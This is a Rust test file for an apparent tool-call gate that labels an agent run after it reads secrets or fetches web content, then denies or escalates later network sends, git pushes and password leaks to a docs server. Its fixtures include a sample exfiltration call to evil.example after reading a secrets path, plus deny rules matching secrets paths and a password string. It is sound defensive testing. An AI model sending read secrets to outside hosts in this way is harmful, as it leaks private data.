//! Flow labels at the gate: an allowed call sets the labels its selectors
//! pick, durably and before it is answered; a later call of the run is
//! escalated or denied by a flow rule because of them, on any sidecar of
//! the tenant; a refused call sets nothing.

use serde_json::{Value, json};
use toolgate_gate::MessageScreen;
use toolgate_policy::{Decision, Id, Reason};
use toolgate_store::ApprovalDecision;

use crate::common::*;

const FLOWS: &str = r#"
mode: rules
rules:
  reader: {allow: ["*"]}
  fetch: {allow: ["*"]}
  send: {allow: ["*"]}
  git.push: {allow: ["*"]}
  publish: {escalate: ["*"]}
  docs.search: {allow: ["*"]}
effects:
  reader: {sideEffect: WORKSPACE_READ, risk: low}
  fetch: {sideEffect: NETWORK_READ, risk: low}
  send: {sideEffect: NETWORK_WRITE, risk: write}
  git.push: {sideEffect: EXTERNAL_WRITE, risk: write}
  publish: {sideEffect: NETWORK_READ, risk: write}
  docs.search: {sideEffect: NETWORK_READ, risk: low}
egress: {allowHosts: ["*.example"]}
flows:
  labels:
    untrusted: {sideEffects: [NETWORK_READ]}
    private: {tools: [reader], match: ["**/secrets/**"]}
  rules:
    - name: no-exfiltration
      when: [untrusted, private]
      deny: {sideEffects: [NETWORK_WRITE]}
    - name: review-pushes
      when: [untrusted]
      escalate: {tools: ["git.*"]}
    - name: no-leaks-to-docs
      when: [private]
      deny: {tools: ["docs.*"], match: ["*hunter2*"]}
"#;

fn page() -> Value {
    json!({"url": "https://news.example/article"})
}

fn push() -> Value {
    json!({"branch": "main"})
}

/// An allowed call that sets a label says so; a later call a flow rule
/// escalates because of it is escalated (`flow_escalate`, with an
/// approval asked for), in that run only.
#[tokio::test]
async fn a_label_set_by_an_allowed_call_escalates_a_later_one() {
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(FLOWS)).await;
        let run = unique("run");
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::AllowRule));

        let fetched = g.authorize("fetch", page(), &run).await;
        assert_eq!(outcome(&fetched), (Decision::Allow, Reason::AllowRule));
        assert_eq!(fetched.flow_labels_set, ["untrusted"]);
        // A second call that sets nothing new says nothing.
        let again = g.authorize("fetch", page(), &run).await;
        assert!(
            again.flow_labels_set.is_empty(),
            "{:?}",
            again.flow_labels_set
        );

        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Escalate, Reason::FlowEscalate));
        assert_eq!(
            v.verdict.matched_rule.as_deref(),
            Some("flow:review-pushes when untrusted")
        );
        assert!(v.approval_id.is_some(), "no approval asked for");
        // Another run carries no label.
        let v = g.authorize("git.push", push(), &unique("run")).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::AllowRule));

        // The run shows the label with the decision that set it, and the
        // log's record of that decision names it.
        let status = g.gate.run_status(&run_id(&run)).await.unwrap();
        let labels = status
            .flow_labels
            .expect("a profile with flows shows labels");
        assert_eq!(labels.len(), 1);
        assert_eq!(labels[0].label, "untrusted");
        assert_eq!(labels[0].decision_id, fetched.decision_id);
        let rec = g.logged(&fetched.decision_id).await;
        let message: Value = serde_json::from_str(rec.message.as_deref().unwrap()).unwrap();
        assert_eq!(message["flow_labels_set"], json!(["untrusted"]));
    });
}

/// Labels live in the database: a rule needing two labels set on two
/// sidecars of the tenant denies the call on either (`flow_rule`).
#[tokio::test]
async fn labels_are_shared_by_every_sidecar_of_the_run() {
    each_backend!(|url| {
        let one = TestGate::start(url, Bundle::Live(FLOWS)).await;
        let two = one.peer(url, Bundle::Live(FLOWS)).await;
        let run = unique("run");
        let read = one
            .authorize("reader", json!({"path": "app/secrets/db"}), &run)
            .await;
        assert_eq!(read.flow_labels_set, ["private"]);
        let send = json!({"url": "https://evil.example/c?d=x"});
        let v = two.authorize("send", send.clone(), &run).await;
        assert_eq!(
            outcome(&v),
            (Decision::Allow, Reason::AllowRule),
            "one label is not enough"
        );
        let fetched = two.authorize("fetch", page(), &run).await;
        assert_eq!(fetched.flow_labels_set, ["untrusted"]);
        for g in [&one, &two] {
            let v = g.authorize("send", send.clone(), &run).await;
            assert_eq!(outcome(&v), (Decision::Deny, Reason::FlowRule));
            assert_eq!(
                v.verdict.matched_rule.as_deref(),
                Some("flow:no-exfiltration when private+untrusted")
            );
        }
    });
}

/// A call the policy refuses sets no label, so it cannot arm a flow rule.
#[tokio::test]
async fn a_refused_call_sets_no_label() {
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(FLOWS)).await;
        let run = unique("run");
        let v = g
            .authorize("fetch", json!({"url": "https://elsewhere.org/"}), &run)
            .await;
        assert_eq!(outcome(&v), (Decision::Deny, Reason::EgressHostNotAllowed));
        assert!(v.flow_labels_set.is_empty());
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::AllowRule));
        let status = g.gate.run_status(&run_id(&run)).await.unwrap();
        assert_eq!(status.flow_labels.map(|l| l.len()), Some(0));
    });
}

/// A message to an MCP server (not a `tools/call`) that a flow deny rule
/// would refuse, given the run's labels, is refused and recorded as a
/// `flow_rule` denial of `SERVER.METHOD`; before the label, it passes.
#[tokio::test]
async fn a_screened_message_is_refused_by_the_runs_labels() {
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(FLOWS)).await;
        let run = unique("run");
        let message = MessageScreen {
            run_id: run_id(&run),
            server: Id::parse("docs").unwrap(),
            method: Id::parse("prompts/get").unwrap(),
            params: object(json!({"name": "q", "arguments": {"text": "pw is hunter2"}})),
        };
        let passed = g.gate.screen_message(&message).await.unwrap();
        assert!(!passed.refused);
        assert!(passed.decision_id.is_none());
        let read = g
            .authorize("reader", json!({"path": "secrets/pw"}), &run)
            .await;
        assert_eq!(read.flow_labels_set, ["private"]);
        let screened = g.gate.screen_message(&message).await.unwrap();
        assert!(screened.refused);
        let id = screened.decision_id.expect("the refusal is recorded");
        let rec = g.logged(&id).await;
        assert_eq!(
            (rec.verdict.as_str(), rec.reason.as_str()),
            ("deny", "flow_rule")
        );
        assert_eq!(rec.tool, "docs.prompts/get");
        assert_eq!(rec.matched_rule, screened.matched_rule);
        assert!(g.verified_rows().await >= 1);
    });
}

/// A call a human approved is an allowed call: it sets its labels when it
/// passes, not when it is first escalated.
#[tokio::test]
async fn an_approved_call_sets_its_labels_when_it_passes() {
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(FLOWS)).await;
        let run = unique("run");
        let args = json!({"url": "https://pkg.example/"});
        let asked = g.authorize("publish", args.clone(), &run).await;
        assert_eq!(outcome(&asked), (Decision::Escalate, Reason::EscalateRule));
        assert!(asked.flow_labels_set.is_empty());
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(
            outcome(&v),
            (Decision::Allow, Reason::AllowRule),
            "no label yet"
        );
        let id = asked.approval_id.unwrap();
        g.resolve(&id, ApprovalDecision::Approved).await;
        let v = g.authorize("publish", args, &run).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::Approved));
        assert_eq!(v.flow_labels_set, ["untrusted"]);
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Escalate, Reason::FlowEscalate));
    });
}

/// A flow escalation is an ordinary approval bound to the exact call:
/// once approved the call passes once (`approved`), and asking again is a
/// flow escalation again, under a new approval.
#[tokio::test]
async fn a_flow_escalation_is_approved_like_any_other() {
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(FLOWS)).await;
        let run = unique("run");
        g.authorize("fetch", page(), &run).await;
        let asked = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&asked), (Decision::Escalate, Reason::FlowEscalate));
        let id = asked.approval_id.expect("an approval is asked for");
        g.resolve(&id, ApprovalDecision::Approved).await;
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::Approved));
        assert_eq!(v.verdict.matched_rule, Some(format!("approval:{id}")));
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Escalate, Reason::FlowEscalate));
        assert_ne!(v.approval_id.as_deref(), Some(id.as_str()));
    });
}

/// Under `scope: pod` every run of the pod shares the labels (a new run id
/// does not shed them), another pod's runs do not; labels are kept for
/// both the run and the pod, so a profile that changes its scope forgets
/// nothing.
#[tokio::test]
async fn pod_scoped_labels_follow_the_pod_across_run_ids_and_reloads() {
    let pod_flows = FLOWS.replace("flows:\n", "flows:\n  scope: pod\n");
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(&pod_flows)).await;
        let other_pod = g.peer(url, Bundle::Live(&pod_flows)).await;
        let fetched = g.authorize("fetch", page(), &unique("run")).await;
        assert_eq!(fetched.flow_labels_set, ["untrusted"]);
        let v = g.authorize("git.push", push(), &unique("run")).await;
        assert_eq!(outcome(&v), (Decision::Escalate, Reason::FlowEscalate));
        let v = other_pod
            .authorize("git.push", push(), &unique("run"))
            .await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::AllowRule));

        // Run scope first, then pod scope: the pod kept the run's label.
        let g = TestGate::start(url, Bundle::Live(FLOWS)).await;
        let run = unique("run");
        assert_eq!(
            g.authorize("fetch", page(), &run).await.flow_labels_set,
            ["untrusted"]
        );
        let fresh = unique("run");
        let v = g.authorize("git.push", push(), &fresh).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::AllowRule));
        g.reload(&pod_flows);
        let v = g.authorize("git.push", push(), &fresh).await;
        assert_eq!(outcome(&v), (Decision::Escalate, Reason::FlowEscalate));
        // And back: the run kept its own, the fresh run has none.
        g.reload(FLOWS);
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Escalate, Reason::FlowEscalate));
        let v = g.authorize("git.push", push(), &unique("run")).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::AllowRule));
    });
}

/// A call its budget refuses (or its run's cancellation, read where the
/// run is charged) is no allowed call: it sets no label, and its record
/// says which budget refused it (#47 item 3: labels written with the
/// charge, after the budget and cancellation checks).
#[tokio::test]
async fn a_call_its_budget_refuses_sets_no_label() {
    let spec = format!("{FLOWS}budgets: {{maxCallsPerRun: 1}}\n");
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(&spec)).await;
        let run = unique("run");
        let v = g.authorize("reader", json!({"path": "x"}), &run).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::AllowRule));
        let v = g.authorize("fetch", page(), &run).await;
        assert_eq!(outcome(&v), (Decision::Deny, Reason::BudgetExhausted));
        let rec = g.logged(&v.decision_id).await;
        assert_eq!(
            rec.message.as_deref(),
            Some("run budget used up (budget:maxCallsPerRun=1)")
        );
        assert!(v.flow_labels_set.is_empty(), "{:?}", v.flow_labels_set);
        let status = g.gate.run_status(&run_id(&run)).await.unwrap();
        assert_eq!(status.flow_labels.map(|l| l.len()), Some(0));
    });
}

/// A high-risk call whose run was cancelled on another sidecar is refused
/// before it labels the run (the cancellation is read before the append,
/// and the labels after it).
#[tokio::test]
async fn a_call_its_cancelled_run_refuses_sets_no_label() {
    let spec = FLOWS.replace(
        "fetch: {sideEffect: NETWORK_READ, risk: low}",
        "fetch: {sideEffect: NETWORK_READ, risk: high}",
    );
    assert_ne!(spec, FLOWS);
    each_backend!(|url| {
        let one = TestGate::start(url, Bundle::Live(&spec)).await;
        let two = one.peer(url, Bundle::Live(&spec)).await;
        let run = unique("run");
        two.gate
            .cancel_run(
                &run_id(&run),
                &toolgate_gate::runs::CancelRequest::default(),
            )
            .await
            .unwrap();
        let v = one.authorize("fetch", page(), &run).await;
        assert_eq!(outcome(&v), (Decision::Deny, Reason::RunCancelled));
        assert!(v.flow_labels_set.is_empty(), "{:?}", v.flow_labels_set);
        let status = one.gate.run_status(&run_id(&run)).await.unwrap();
        assert_eq!(status.flow_labels.map(|l| l.len()), Some(0));
    });
}

/// A label never loosens a verdict: a call the tiers deny stays denied
/// (`deny_rule`) when a flow escalate rule selects it; and a flow deny
/// rule binds before `allowAll`.
#[tokio::test]
async fn labels_only_tighten() {
    let tiered = FLOWS.replace(
        r#"git.push: {allow: ["*"]}"#,
        r#"git.push: {deny: ["*force*"], allow: ["*"]}"#,
    );
    let allow_all = "mode: allowAll\neffects:\n  fetch: {sideEffect: NETWORK_READ, risk: low}\n  \
                     send: {sideEffect: NETWORK_WRITE, risk: low}\negress: {allowHosts: [\"*\"]}\n\
                     flows:\n  labels:\n    untrusted: {sideEffects: [NETWORK_READ]}\n  rules:\n    \
                     - name: quiet\n      when: [untrusted]\n      deny: {tools: [send]}\n";
    each_backend!(|url| {
        let g = TestGate::start(url, Bundle::Live(&tiered)).await;
        let run = unique("run");
        g.authorize("fetch", page(), &run).await;
        let v = g
            .authorize("git.push", json!({"branch": "--force"}), &run)
            .await;
        assert_eq!(outcome(&v), (Decision::Deny, Reason::DenyRule));
        let v = g.authorize("git.push", push(), &run).await;
        assert_eq!(outcome(&v), (Decision::Escalate, Reason::FlowEscalate));

        let g = TestGate::start(url, Bundle::Live(allow_all)).await;
        let run = unique("run");
        let v = g.authorize("send", page(), &run).await;
        assert_eq!(outcome(&v), (Decision::Allow, Reason::ModeAllowAll));
        g.authorize("fetch", page(), &run).await;
        let v = g.authorize("send", page(), &run).await;
        assert_eq!(outcome(&v), (Decision::Deny, Reason::FlowRule));
    });
}

/// The labels a run's status shows follow the one flow-subject rule, read
/// with or without a sidecar: the run's under `scope: run`; under `scope:
/// pod` the pod's, so only when the pod is named (`toolgate runs status`
/// without `--pod` shows none).
#[tokio::test]
async fn a_runs_status_shows_the_labels_of_its_flow_subject() {
    let pod_flows = FLOWS.replace("flows:\n", "flows:\n  scope: pod\n");
    each_backend!(|url| {
        for (spec, pod_scoped) in [(FLOWS, false), (pod_flows.as_str(), true)] {
            let g = TestGate::start(url, Bundle::Live(spec)).await;
            let (run, fresh) = (unique("run"), unique("fresh"));
            g.authorize("fetch", page(), &run).await;
            let enforced = g.gate.enforced().expect("a bundle is held");
            let labels = async |run: &str, pod| {
                let policy = Some(&enforced.policy);
                let reading =
                    toolgate_gate::runs::read_run(&g.store, &g.tenant, &run_id(run), pod, policy)
                        .await
                        .unwrap();
                let names = reading.status.flow_labels;
                names.map(|l| l.into_iter().map(|l| l.label).collect::<Vec<_>>())
            };
            let set = Some(vec!["untrusted".to_owned()]);
            assert_eq!(labels(&run, Some("pod-a")).await, set);
            let status = g.gate.run_status(&run_id(&run)).await.unwrap();
            let shown = status
                .flow_labels
                .map(|l| l.into_iter().map(|l| l.label).collect());
            assert_eq!(shown, set);
            let (fresh_seen, alone) = if pod_scoped {
                (set.clone(), None)
            } else {
                (Some(Vec::new()), set.clone())
            };
            assert_eq!(labels(&fresh, Some("pod-a")).await, fresh_seen, "{spec}");
            assert_eq!(labels(&run, None).await, alone, "{spec}");
        }
    });
}
